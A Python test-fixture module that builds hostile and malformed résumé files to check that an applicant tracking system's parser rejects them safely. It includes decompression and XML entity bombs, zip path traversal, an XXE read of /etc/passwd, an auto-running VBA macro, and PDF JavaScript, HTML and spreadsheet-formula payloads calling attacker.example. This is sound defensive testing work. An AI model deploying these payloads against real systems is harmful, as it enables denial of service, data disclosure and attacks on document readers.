"""Files that mean harm or are merely broken, made in memory: none may kill, hang or fool whoever reads them.

Each says which error codes are a right answer (codes of the parser). ``may_succeed`` marks files that may as well be
read, because what is hostile in them never takes effect: a macro that is not run, a script that is not followed.
"""

import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from ats_app.demo.resumes.factory import make_resume
from ats_app.demo.resumes.layouts.office import LONG_AGO

MIB = 1024 * 1024
_CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@dataclass(frozen=True)
class HostileFile:
    """``codes``: acceptable error codes; empty only where the file must simply be read without effect."""

    name: str
    content: bytes
    codes: frozenset[str]
    may_succeed: bool = False


_MAKERS: list[tuple[str, Callable[[], bytes], frozenset[str], bool]] = []


def _hostile(name: str, *codes: str, may_succeed: bool = False) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def register(make: Callable[[], bytes]) -> Callable[[], bytes]:
        _MAKERS.append((name, make, frozenset(codes), may_succeed))
        return make

    return register


def hostile_files() -> Iterator[HostileFile]:
    """All of them, made one at a time since some are large."""
    for name, make, codes, may_succeed in _MAKERS:
        yield HostileFile(name, make(), codes, may_succeed)


@cache
def _resume(layout: str) -> bytes:
    return make_resume(4711, layout=layout, language="en").content


# Nothing in it


@_hostile("empty.pdf", "empty")
def empty() -> bytes:
    return b""


@_hostile("blank.txt", "empty")
def blank_text() -> bytes:
    return b" \r\n\t" * 200


@_hostile("no-text.pdf", "empty", "needs_ocr")
def no_text() -> bytes:
    return _canvas(lambda _: None)


# Damaged or locked


@_hostile("truncated.pdf", "corrupt", "empty")
def truncated_pdf() -> bytes:
    content = _resume("pdf_classic")
    return content[: len(content) // 4]


@_hostile("truncated.docx", "corrupt")
def truncated_docx() -> bytes:
    content = _resume("docx_styled")
    return content[: len(content) // 2]


@_hostile("header-only.pdf", "corrupt", "empty")
def header_only() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


@_hostile("random-bytes.pdf", "unsupported_type", "corrupt")
def random_bytes() -> bytes:
    return zlib.compress(b"".join(struct.pack("<I", (i * 2654435761) % 2**32) for i in range(4096)))[2:]


@_hostile("password.pdf", "encrypted")
def password_pdf() -> bytes:
    lock = StandardEncryption("open sesame", ownerPassword="owner", strength=128)
    return _canvas(lambda c: c.drawString(72, 720, "Nobody should read this"), encrypt=lock)


@_hostile("password.docx", "encrypted")
def password_docx() -> bytes:
    """What Word saves with a password: an OLE container around an encrypted package."""
    return _compound_file(
        {"EncryptionInfo": b"\x04\x00\x04\x00" + bytes(4092), "EncryptedPackage": bytes(range(256)) * 16}
    )


@_hostile("locked-members.docx", "encrypted", "corrupt")
def locked_members() -> bytes:
    """A DOCX whose ZIP members claim to be encrypted (bit 0 of their flags)."""
    content = bytearray(_resume("docx_styled"))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(mark)
        while start >= 0:
            content[start + offset] |= 1
            start = content.find(mark, start + 4)
    return bytes(content)


# Not what the name says


@_hostile("program.pdf", "unsupported_type")
def program() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00" + bytes(120) + b"PE\x00\x00d\x86" + bytes(4000)


@_hostile("web-page.pdf", "unsupported_type")
def web_page() -> bytes:
    return b"<!DOCTYPE html><html><body onload=\"fetch('https://attacker.example')\"><h1>Jane Roe</h1></body></html>"


@_hostile("archive.docx", "unsupported_type", "corrupt")
def plain_archive() -> bytes:
    return _zip({"readme.txt": b"no document here"})


@_hostile("picture.pdf", "unsupported_type")
def picture() -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(400)


# Far larger than it looks


@_hostile("bomb.pdf", "bomb", "timeout", "corrupt", "too_large", "empty")
def bomb_pdf() -> bytes:
    """A page whose content unpacks to a gigabyte of drawn letters, deflated twice into a few kilobytes."""
    page = deflate_repeated(b"BT /F1 9 Tf 9 9 Td (pay me) Tj ET\n" * 30_000, times=1024)
    return _pdf_with_stream(zlib.compress(page, 9), "[/FlateDecode /FlateDecode]")


@_hostile("bomb.docx", "bomb", "too_large")
def bomb_docx() -> bytes:
    return _zip({**_docx_parts(), "word/document.xml": b"<x>" + bytes(96 * MIB)})


@_hostile("entities.docx", "bomb", "corrupt", "timeout", "empty")
def entity_bomb() -> bytes:
    """Ten entities, each ten times the one before: a billion laughs."""
    levels = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10))
    xml = f'<!DOCTYPE w [<!ENTITY e0 "laugh">{levels}]><w:document {_W}><w:body><w:p><w:r><w:t>&e9;</w:t></w:r></w:p>'
    return _zip({**_docx_parts(), "word/document.xml": f"{xml}</w:body></w:document>".encode()})


@_hostile("many-members.docx", "bomb", "corrupt")
def many_members() -> bytes:
    return _zip({**_docx_parts(), **{f"word/media/{i}.txt": b"x" for i in range(6000)}})


@_hostile("thousand-pages.pdf", "too_many_pages", "timeout")
def thousand_pages() -> bytes:
    def draw(canvas: Canvas) -> None:
        for page in range(1000):
            if page:
                canvas.showPage()
            canvas.drawString(72, 720, f"Page {page + 1} of a life told at length")

    return _canvas(draw)


@_hostile("huge-picture.pdf", "needs_ocr", "bomb", "timeout", "corrupt", "empty")
def huge_picture() -> bytes:
    """One white image of 60,000 by 60,000 points: 450 MB once unpacked."""
    pixels = deflate_repeated(b"\xff" * (60_000 // 8) * 600, times=100)
    image = (
        b"<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray "
        b"/Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(pixels), pixels)
    )
    drawing = b"<< /Length 27 >>\nstream\nq 595 0 0 842 0 0 cm /I Do Q\nendstream"
    return _one_page(drawing, b"/XObject << /I 5 0 R >>", image)


@_hostile("too-large.txt", "too_large", "bomb")
def too_large() -> bytes:
    return b"I have done very many things in my life. " * (24 * MIB // 41)


# Built to confuse


@_hostile("nested.pdf", "corrupt", "empty", "timeout", "bomb")
def nested_pdf() -> bytes:
    """A page tree of arrays a hundred thousand deep."""
    return _pdf([_CATALOGUE, b"<< /Type /Pages /Count 1 /Kids " + b"[" * 100_000 + b"]" * 100_000 + b" >>"])


@_hostile("loop.pdf", "corrupt", "empty", "timeout", "too_many_pages")
def loop_pdf() -> bytes:
    """A page tree that is its own child."""
    return _pdf([_CATALOGUE, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 /Parent 2 0 R >>"])


@_hostile("nested.docx", "corrupt", "empty", "timeout", "bomb")
def nested_docx() -> bytes:
    """Fifty thousand tables within tables."""
    depth = 50_000
    tables = "<w:tbl><w:tr><w:tc>" * depth + "</w:tc></w:tr></w:tbl>" * depth
    xml = f"<w:document {_W}><w:body>{tables}</w:body></w:document>"
    return _zip({**_docx_parts(), "word/document.xml": xml.encode()})


@_hostile("traversal.docx", "corrupt", "unsupported_type", "bomb")
def traversal() -> bytes:
    return _zip({**_docx_parts(), "../../../../tmp/taken-over": b"owned", "/etc/taken-over": b"owned"})


@_hostile("external-entity.docx", "corrupt", "empty", "unsupported_type", may_succeed=True)
def external_entity() -> bytes:
    """Asks the XML reader to put a file of the server into the text; an answer with that file in it is a failure."""
    xml = f'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {_W}><w:body><w:p><w:r><w:t>Jane Roe &x;'
    return _zip({**_docx_parts(), "word/document.xml": f"{xml}</w:t></w:r></w:p></w:body></w:document>".encode()})


@_hostile("macro.docx", "unsupported_type", "corrupt", may_succeed=True)
def macro() -> bytes:
    types = _docx_parts()["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.document.macroEnabled.main+xml"
    )
    project = _compound_file({"VBA": b'Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub'.ljust(4096, b"\0")})
    return _zip({**_docx_parts(), "[Content_Types].xml": types, "word/vbaProject.bin": project})


@_hostile("script.pdf", may_succeed=True)
def script_pdf() -> bytes:
    """Runs a script and starts a program when opened by a careless reader; otherwise an ordinary résumé."""
    action = b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('https://attacker.example'\\)) >> "
    return _resume("pdf_classic").replace(b"/Type /Catalog", action + b"/Type /Catalog")


@_hostile("markup.txt", may_succeed=True)
def markup() -> bytes:
    """An ordinary résumé but for a name that is a script and a title that is a spreadsheet formula."""
    text = _resume("text_plain").decode()
    name, _, rest = text.partition("\n")
    return f'<script>alert(1)</script> {name}\n=HYPERLINK("https://attacker.example","click")\n{rest}'.encode()


# Building blocks


def deflate_repeated(block: bytes, *, times: int) -> bytes:
    """A zlib stream that unpacks to ``block * times``, made without ever holding that much.

    After a full flush the compressor forgets everything, so the compressed block can be repeated as it is; the check
    sum runs over the repetitions.
    """
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    body = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(times):
        check = zlib.adler32(block, check)
    return head + body * times + b"\x03\x00" + struct.pack(">I", check)


def _canvas(draw: Callable[[Canvas], None], *, encrypt: StandardEncryption | None = None) -> bytes:
    out = BytesIO()
    canvas = Canvas(out, invariant=1, encrypt=encrypt)
    draw(canvas)
    canvas.showPage()
    canvas.save()
    return out.getvalue()


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return bytes(out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))


def _pdf_with_stream(stream: bytes, filters: str) -> bytes:
    head = f"<< /Length {len(stream)} /Filter {filters} >>\nstream\n".encode()
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    return _one_page(head + stream + b"\nendstream", b"/Font << /F1 5 0 R >>", font)


def _one_page(drawing: bytes, resources: bytes, resource: bytes) -> bytes:
    """A PDF of one page; object 4 is its drawing, object 5 the one resource it uses."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << %s >> >>" % resources
    return _pdf([_CATALOGUE, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, drawing, resource])


def _zip(members: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in members.items():
            archive.writestr(ZipInfo(name, LONG_AGO), content, ZIP_DEFLATED)
    return out.getvalue()


def _docx_parts() -> dict[str, bytes]:
    """The members of a sound DOCX."""
    with ZipFile(BytesIO(_resume("docx_styled"))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _compound_file(streams: dict[str, bytes]) -> bytes:
    """An OLE compound file (MS-CFB, version 3) of up to three streams of 4,096 bytes or more each."""
    end, free, fat_mark = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    fat, sectors, entries = [fat_mark, end], b"", [_directory_entry("Root Entry", 5, 1, end, 0)]
    for number, (name, content) in enumerate(streams.items(), 1):
        first, count = len(fat), -(-len(content) // 512)
        fat += [*range(first + 1, first + count), end]
        sectors += content.ljust(count * 512, b"\0")
        sibling = number + 1 if number < len(streams) else free
        entries.append(_directory_entry(name, 2, free, first, len(content), right=sibling))
    directory = b"".join(entries).ljust(512, b"\0")
    table = struct.pack("<128I", *(fat + [free] * (128 - len(fat))))
    header = struct.pack(
        "<8s16s5H6x9I",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"",
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        0,
        1,
        1,
        0,
        4096,
        end,
        0,
        end,
        0,
    )
    return header + struct.pack("<109I", 0, *[free] * 108) + table + directory + sectors


def _directory_entry(name: str, kind: int, child: int, start: int, size: int, *, right: int = 0xFFFFFFFF) -> bytes:
    text = name.encode("utf-16-le")
    return struct.pack(
        "<64sHBB3I16sI8x8xIQ", text, len(text) + 2, kind, 1, 0xFFFFFFFF, right, child, b"", 0, start, size
    )  # fmt: skip
